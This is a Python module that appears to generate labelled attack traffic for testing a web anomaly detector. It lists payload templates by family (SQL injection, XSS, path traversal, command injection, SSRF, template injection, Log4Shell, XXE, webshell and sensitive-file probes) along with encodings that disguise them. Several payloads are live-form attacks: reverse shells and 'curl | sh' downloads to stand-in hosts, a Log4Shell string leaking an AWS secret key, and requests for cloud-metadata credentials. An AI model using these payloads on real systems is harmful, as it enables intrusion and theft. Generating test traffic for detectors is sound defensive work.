"""Attack requests by family: what is asked for, and the ways in which it is dressed up."""

from collections.abc import Callable
from typing import Final
from urllib.parse import quote

import msgspec

from vedette.schema.anomaly import AnomalyType

# In every text: {n} is a number, {w} a word, {h} a host, {x} hexadecimal digits.
_WORDS: Final = (
    "admin",
    "users",
    "passwd",
    "orders",
    "zq",
    "test",
    "x",
    "items",
    "accounts",
    "k7",
    "demo",
    "root",
)
_HOSTS: Final = (
    "evil.example",
    "oast.example.net",
    "203.0.113.66",
    "c2.example.org:8443",
    "198.51.100.9:1389",
)


def _plain(text: str) -> str:
    """As a careless tool sends it: only what would end the parameter or the request line is encoded."""
    return (
        text.replace("%", "%25")
        .replace("&", "%26")
        .replace("#", "%23")
        .replace("+", "%2B")
        .replace(" ", "%20")
    )


def _plus(text: str) -> str:
    return quote(text, safe="").replace("%20", "+")


def _full(text: str) -> str:
    return "".join(f"%{b:02x}" for b in text.encode())


def _twice(text: str) -> str:
    return quote(quote(text, safe=""), safe="")


def _mixed_case(text: str) -> str:
    return _plus("".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text)))


def _comments(text: str) -> str:
    return _plain(text.replace(" ", "/**/"))


def _quoted(text: str) -> str:
    return quote(text, safe="")


Encoding = Callable[[str], str]
_USUAL: Final[tuple[Encoding, ...]] = (_plain, _plus, _quoted, _quoted, _full, _twice)
_SQL: Final[tuple[Encoding, ...]] = (*_USUAL, _mixed_case, _comments)


class Family(msgspec.Struct, frozen=True):
    """One kind of attack.

    Attributes:
        name: As `--inject` takes it.
        type: What a detector should call it.
        values: Put, encoded, into a parameter of an ordinary route.
        targets: Whole targets, sent as they are; another method than GET stands before the target.
        agents: Put, as they are, into the user agent of a request for an ordinary page.
        encodings: How values are dressed up.
    """

    name: str
    type: AnomalyType
    values: tuple[str, ...] = ()
    targets: tuple[str, ...] = ()
    agents: tuple[str, ...] = ()
    encodings: tuple[Encoding, ...] = _USUAL


_T = AnomalyType

FAMILIES: Final[tuple[Family, ...]] = (
    Family(
        "sqli",
        _T.SQL_INJECTION,
        encodings=_SQL,
        values=(
            "{n}' OR '1'='1",
            "{n}' OR {n}={n}-- -",
            "' UNION SELECT null,{w},null FROM {w}-- -",
            "-{n} UNION ALL SELECT {n},concat(0x{x},{w},0x{x}),{n}-- -",
            "{n}); DROP TABLE {w};--",
            "{n}' AND SLEEP(5)-- -",
            "{n} AND (SELECT {n} FROM (SELECT(SLEEP(5))){w})",
            "{n}' AND extractvalue({n},concat(0x7e,(SELECT version())))-- -",
            "{n}; WAITFOR DELAY '0:0:5'--",
            "{n}' AND (SELECT COUNT(*) FROM information_schema.tables)>{n}-- -",
            "admin'--",
            "{n} ORDER BY {n}-- -",
            "{n}' UNION SELECT table_name,{n} FROM information_schema.columns WHERE table_name='{w}'-- -",
            "{n}'||(SELECT pg_sleep(5))||'",
            "{n} AND ASCII(SUBSTRING((SELECT database()),{n},1))>64",
            "{n}' AND updatexml(1,concat(0x7e,user()),1)#",
        ),
    ),
    Family(
        "xss",
        _T.XSS,
        values=(
            "<script>alert({n})</script>",
            '"><script src=//{h}/{w}.js></script>',
            "<img src=x onerror=alert({n})>",
            "'><svg/onload=alert({n})>",
            "javascript:alert(document.cookie)//{n}",
            '<iframe src="javascript:alert({n})">',
            "<body onload=alert('{w}')>",
            '" onmouseover="alert({n})" x="',
            '<a href="jaVasCript:alert({n})">{w}</a>',
            "<ScRiPt>eval(String.fromCharCode(97,108,101,114,116,40,{n},41))</sCrIpT>",
            "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
            "<details open ontoggle=alert({n})>",
        ),
    ),
    Family(
        "path_traversal",
        _T.PATH_TRAVERSAL,
        values=(
            "../../../../etc/passwd",
            "../../../../../../etc/shadow",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/passwd",
            "../../../../../../../proc/self/environ",
            "../../../{w}/../../etc/hosts",
        ),
        targets=(
            "/static/../../../../etc/passwd",
            "/images/..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
            "/images/%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
            "/static/..%5c..%5c..%5cwindows%5cwin.ini",
        ),
    ),
    Family(
        "command_injection",
        _T.COMMAND_INJECTION,
        values=(
            "{n};cat /etc/passwd",
            "{n}|id",
            "{w}`id`",
            "$(curl http://{h}/{w}.sh|sh)",
            "{n}&&wget http://{h}/{w} -O /tmp/{w}",
            "{n};nc -e /bin/sh {h} {n}",
            "{w}||ping -c {n} 127.0.0.1",
            ";uname -a;",
            "{n}%0acat /etc/passwd",
            "{n};bash -i >& /dev/tcp/203.0.113.66/{n} 0>&1",
            "| powershell -enc {x}{x}{x}{x}==",
        ),
        agents=("() {{ :;}}; /bin/bash -c 'curl http://{h}/{w}'", "() {{ ignored; }}; echo; /usr/bin/id"),
    ),
    Family(
        "file_inclusion",
        _T.FILE_INCLUSION,
        values=(
            "php://filter/convert.base64-encode/resource={w}.php",
            "php://input",
            "http://{h}/{w}.txt?",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+",
            "expect://id",
            "php://filter/read=string.rot13/resource={w}.php",
            "phar://uploads/{w}.phar/{w}.php",
            "zip://uploads/{w}.zip%23{w}.php",
        ),
    ),
    Family(
        "ssrf",
        _T.SSRF,
        values=(
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://127.0.0.1:{n}/{w}",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_{w}",
            "http://[::1]:{n}/",
            "http://localhost:9200/_cat/indices",
            "dict://127.0.0.1:11211/stats",
            "http://2130706433/{w}",
            "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        ),
    ),
    Family(
        "template_injection",
        _T.TEMPLATE_INJECTION,
        values=(
            "{{{{{n}*{n}}}}}",
            "${{{n}*{n}}}",
            "{{{{config.__class__.__init__.__globals__['os'].popen('id').read()}}}}",
            "<%= {n}*{n} %>",
            "#{{{n}*{n}}}",
            "{{{{''.__class__.__mro__[1].__subclasses__()}}}}",
            "${{T(java.lang.Runtime).getRuntime().exec('id')}}",
            "{{{{request.application.__globals__.__builtins__}}}}",
            "*{{T(java.lang.System).getenv()}}",
            "{{php}}echo `id`;{{/php}}",
        ),
    ),
    Family(
        "log4shell",
        _T.LOG4SHELL,
        values=(
            "${{jndi:ldap://{h}/{w}}}",
            "${{jndi:rmi://{h}/{w}}}",
            "${{${{lower:j}}ndi:${{lower:l}}dap://{h}/{w}}}",
            "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:ldap://{h}/{w}}}",
            "${{jndi:dns://{h}/{x}}}",
            "${{${{env:NaN:-j}}ndi${{env:NaN:-:}}ldap://{h}/{x}}}",
        ),
        agents=(
            "${{jndi:ldap://{h}/{w}}}",
            "${{${{lower:j}}ndi:ldap://{h}/{x}}}",
            "${{jndi:ldap://${{env:AWS_SECRET_KEY}}.{h}/{w}}}",
        ),
    ),
    Family(
        "xxe",
        _T.XXE,
        values=(
            '<?xml version="1.0"?><!DOCTYPE {w} [<!ENTITY x SYSTEM "file:///etc/passwd">]><{w}>&x;</{w}>',
            '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://{h}/{w}.dtd">%p;]>',
            '<!DOCTYPE {w} [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource={w}">]>',
        ),
    ),
    Family(
        "webshell",
        _T.WEBSHELL,
        targets=(
            "/uploads/c99.php?act=cmd&d=/tmp",
            "/uploads/r57.php",
            "/images/shell.php?cmd=id",
            "/wp-content/uploads/wso.php",
            "POST /uploads/wso.php",
            "POST /images/{w}.php?c={x}",
            "/uploads/cmd.jsp?cmd=whoami",
            "/cmd.aspx?exec=dir",
            "/uploads/b374k.php?p={n}",
            "/alfa.php?cmd=ls+-la",
            "/uploads/{w}.php?cmd=cat+/etc/passwd",
            "/.well-known/shell.php?c=uname+-a",
            "/assets/weevely.php?x={x}",
        ),
    ),
    Family(
        "sensitive_file",
        _T.SENSITIVE_FILE,
        targets=(
            "/.env",
            "/.git/config",
            "/.git/HEAD",
            "/.aws/credentials",
            "/wp-config.php.bak",
            "/.ssh/id_rsa",
            "/backup.sql",
            "/.htpasswd",
            "/config.php~",
            "/.svn/entries",
            "/.DS_Store",
            "/database.sql.gz",
            "/api/.env",
            "/.env.production",
            "/server.key",
            "/.docker/config.json",
            "/phpinfo.php",
            "/actuator/env",
            "/actuator/heapdump",
            "/.vscode/sftp.json",
        ),
    ),
    Family(
        "protocol_violation",
        _T.PROTOCOL_VIOLATION,
        targets=(
            "CONNECT evil.example:443",
            "CONNECT 203.0.113.66:25",
            "TRACE /",
            "TRACE /{w}",
            "/%00",
            "/{w}%0d%0aSet-Cookie:%20{w}={n}",
            "/%0d%0aX-Injected:%20{x}",
            "/search?q=%0d%0aLocation:%20http://{h}/",
        ),
    ),
)


def fill(text: str, random: int) -> str:
    """Put a number, a word, a host and hexadecimal digits where the text wants them."""
    return text.format(
        n=random % 9000 + 12,
        w=_WORDS[(random >> 14) % len(_WORDS)],
        h=_HOSTS[(random >> 24) % len(_HOSTS)],
        x=f"{random >> 8 & 0xFFFF_FFFF:08x}",
    )
